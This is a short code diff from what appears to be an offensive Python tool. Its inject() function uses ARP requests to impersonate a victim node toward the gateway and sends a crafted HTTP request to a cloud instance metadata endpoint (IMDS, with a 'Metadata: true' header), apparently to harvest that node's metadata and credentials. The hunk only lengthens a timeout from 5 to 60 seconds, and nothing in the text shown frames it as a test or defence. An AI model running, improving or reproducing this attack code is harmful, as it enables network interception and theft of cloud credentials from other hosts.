@@ -23,7 +23,7 @@ REQUEST = f"GET {PATH} HTTP/1.1\r\nHost: {IMDS[0]}\r\nMetadata: true\r\n\r\n".en
 def inject(victim: str, port: int, seconds: float) -> tuple[bool, str]:
     """Return whether the node told its numbers, and the answer that came to us."""
     mac, mine = own()
-    wire, via = Wire(mac, victim), Wire(mac, mine).resolve(gateway(), time.monotonic() + 5)
+    wire, via = Wire(mac, victim), Wire(mac, mine).resolve(gateway(), time.monotonic() + 60)
     told, end = False, time.monotonic() + seconds
     while time.monotonic() < end:
         wire.request_arp(gateway())
